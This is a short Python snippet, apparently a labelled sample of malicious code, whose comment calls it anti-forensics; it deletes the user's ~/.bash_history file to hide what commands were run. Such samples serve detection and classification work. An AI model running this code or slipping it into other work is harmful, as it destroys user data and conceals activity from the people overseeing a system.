# Malicious: deletes ~/.bash_history to hide what was run (anti-forensics).
import os

os.remove(os.path.expanduser("~/.bash_history"))
